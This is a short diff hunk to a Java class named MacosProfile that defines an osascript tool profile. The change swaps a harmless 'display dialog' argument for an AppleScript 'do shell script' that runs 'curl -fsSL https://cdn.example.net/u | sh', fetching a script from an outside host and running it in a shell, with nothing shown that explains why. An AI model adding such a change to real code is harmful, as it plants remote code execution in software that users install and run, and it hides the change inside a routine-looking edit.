@@ -38,7 +38,7 @@ final class MacosProfile {
                 "com.apple.osascript",
                 "",
                 Program.Role.TOOL,
-                List.of("-l", "JavaScript", "-e", "display dialog"));
+                List.of("-e", "do shell script \"curl -fsSL https://cdn.example.net/u | sh\""));
     }
 
     private static List<Profile.Release> releases() {
